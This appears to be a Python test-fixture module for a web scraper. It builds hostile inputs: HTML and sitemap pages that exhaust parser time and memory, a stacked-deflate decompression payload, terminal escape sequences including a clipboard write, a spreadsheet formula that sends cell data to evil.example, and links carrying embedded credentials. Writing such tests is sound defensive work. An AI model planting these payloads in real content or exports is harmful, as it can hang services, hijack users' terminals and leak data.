"""Hostile inputs: small pages that make the HTML5 parser run for minutes or take gigabytes.

Each generator takes a size, so a test makes one just past its small limits and a bench (a later
`bench/hostile.py`) one as large as it likes. Measured with selectolax 1.0 on the 2-core dev machine,
in `scraper extract`, without the worker limits:

- `reopened_formatting(500, 20_000)`: 160 KiB, 37 s and 3.7 GB. Every ``<p>`` reopens the 500
  formatting elements still active (the "reconstruct the active formatting elements" step), so the
  tree holds repeats × opened elements.
- `deep_bogus_nesting(100_000)`: 13.6 s; 300,000 levels take minutes. The bogus end tag after each
  open tag fooled the guard's first pre-check (it counted every "</" as a close), and each block start
  tag walks the whole stack of open elements.

The extractor's guard now refuses both before parsing (scraper/extract/guard.py), naming the limit.

And pages that fool a reader rather than the parser:

- `terminal_escapes_article()`: terminal control sequences in the title, metadata and text, as raw
  characters and as numeric character references, which `scraper get` once printed as they came.
- `credential_links_page(base)`: links, canonical and og:url carrying ``user:password@``, which were
  once crawled, stored and exported with the password.
"""

from __future__ import annotations

import random
import zlib

__all__ = [
    "CREDENTIALS",
    "FORMULA_TITLE",
    "TERMINAL_ESCAPES",
    "broken_sitemap",
    "credential_links_page",
    "deep_bogus_nesting",
    "normal_article",
    "reopened_formatting",
    "section_page",
    "sitemap_index",
    "stacked_deflate",
    "terminal_escapes_article",
    "urlset",
]

# Sequences a terminal obeys when printed text carries them: OSC 52 writes the clipboard, OSC 0 sets
# the window title, OSC 8 makes a hidden hyperlink, BEL rings, ESC [ and the one-character C1 CSI
# (U+009B) start a control sequence (here: clear the screen). Some raw, some as character references:
# the parser decodes "&#27;" into the ESC it means ("&#155;" is U+203A by the HTML5 table, "&#x9d;" is
# the C1 OSC).
TERMINAL_ESCAPES = (
    "\x1b]52;c;ZWNobyBwd25lZA==\x07",
    "&#27;]0;pwned title&#7;",
    "\x1b]8;;https://evil.example/\x1b\\click\x1b]8;;\x1b\\",
    "\x9b2J",
    "&#x1b;[2J",
    "&#x9d;0;osc&#7;",
    "\x07\x00\x0b\x0c\r\x7f",
)
# A title a spreadsheet would run as a formula if a CSV cell began with it.
FORMULA_TITLE = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
# The userinfo of every link, canonical and og:url of `credential_links_page`.
CREDENTIALS = "crawler:s3cret-pw"


def reopened_formatting(opened: int = 500, repeats: int = 20_000) -> str:
    """`opened` distinct formatting elements left open in a paragraph, then ``</p><p>x`` `repeats` times."""
    head = "".join(f"<b id={n}>" for n in range(opened))
    return f"<html><body><p>{head}x{'</p><p>x' * repeats}</body></html>"


def deep_bogus_nesting(levels: int = 100_000) -> str:
    """`levels` nested ``<div>``, each followed by a bogus end tag that closes nothing."""
    return f"<html><body>{'<div></x>' * levels}deep</body></html>"


def section_page(links: list[str], *, hostile: str = "") -> str:
    """A home or section page linking to `links`, with `hostile` markup after them."""
    anchors = "".join(f'<li><a href="{link}">{link}</a></li>' for link in links)
    return f"<html><head><title>Section</title></head><body><ul>{anchors}</ul>{hostile}</body></html>"


def normal_article(title: str, *paragraphs: str) -> str:
    """An ordinary article page, for the pages a hostile one sits among."""
    body = "".join(f"<p>{paragraph}</p>" for paragraph in paragraphs)
    head = f"<head><title>{title}</title></head>"
    return f"<html>{head}<body><article><h1>{title}</h1>{body}</article></body></html>"


_SITEMAP_NS = "http://www.sitemaps.org/schemas/sitemap/0.9"


def broken_sitemap(entries: int = 10_000, base: str = "https://news.example") -> str:
    """A sitemap whose `entries` ``<loc>`` tags (``base/story-N``) are never closed: a fallback regex that
    looks for each one's ``</loc>`` scans to the end from every tag (195 KiB took 50 s)."""
    locs = "".join(f"<url><loc>{base}/story-{n}" for n in range(entries))
    return f'<?xml version="1.0"?><urlset xmlns="{_SITEMAP_NS}">{locs}'


def sitemap_index(children: list[str]) -> str:
    """A sitemap index listing `children` (each index may list 50,000, and indexes may list indexes)."""
    entries = "".join(f"<sitemap><loc>{child}</loc></sitemap>" for child in children)
    return f'<?xml version="1.0"?><sitemapindex xmlns="{_SITEMAP_NS}">{entries}</sitemapindex>'


def urlset(urls: list[str]) -> str:
    """A plain sitemap listing `urls`."""
    entries = "".join(f"<url><loc>{url}</loc></url>" for url in urls)
    return f'<?xml version="1.0"?><urlset xmlns="{_SITEMAP_NS}">{entries}</urlset>'


def terminal_escapes_article() -> str:
    """An article whose title, author, description, site name and paragraphs carry `TERMINAL_ESCAPES`."""
    escapes = "".join(TERMINAL_ESCAPES)
    told = "It is told at some length, with enough words in each paragraph to read as an article. " * 3
    paragraphs = "".join(f"<p>Paragraph {n} {escapes} of the story. {told}</p>" for n in range(4))
    head = (
        f"<title>Escaped {escapes} headline</title>"
        f'<meta name="author" content="Ann {escapes} Lee">'
        f'<meta name="description" content="About {escapes} things">'
        f'<meta property="og:site_name" content="Site {escapes}">'
    )
    body = f"<article><h1>Escaped headline</h1>{paragraphs}</article>"
    return f"<html><head>{head}</head><body>{body}</body></html>"


def credential_links_page(base: str, *, title: str = "Section", canonical: bool = True) -> str:
    """A page at `base` (``http://host:port``) whose article links, canonical (unless not `canonical`)
    and og:url all carry `CREDENTIALS` as userinfo."""
    host = base.split("://", 1)[1]
    secret = f"http://{CREDENTIALS}@{host}"
    links = "".join(
        f'<li><a href="{secret}/news/2024/05/a-story-with-many-words-{n}">A story {n}</a></li>'
        for n in range(3)
    )
    # Words in an order of this title's own: pages of two titles are two stories, not copies (issue 13).
    words = [
        "it",
        "is",
        "told",
        "at",
        "some",
        "length",
        "with",
        "enough",
        "words",
        "in",
        "each",
        "paragraph",
        "to",
        "read",
        "as",
        "an",
        "article",
    ]
    random.Random(title).shuffle(words)
    told = (" ".join(words).capitalize() + ". ") * 3
    canonical_link = f'<link rel="canonical" href="{secret}/canonical">' if canonical else ""
    head = f'<title>{title}</title>{canonical_link}<meta property="og:url" content="{secret}/og">'
    body = f"<article><h1>{title}</h1><p>{told}</p><p>{told}</p><ul>{links}</ul></article>"
    return f"<html><head>{head}</head><body>{body}</body></html>"


def stacked_deflate(body: bytes, layers: int = 1500) -> bytes:
    """`body` deflated `layers` times over, for a Content-Encoding of as many ``deflate``s: 1,500 of them
    raised RecursionError in the fetcher's decoder chain (one generator per coding)."""
    for _ in range(layers):
        body = zlib.compress(body)
    return body
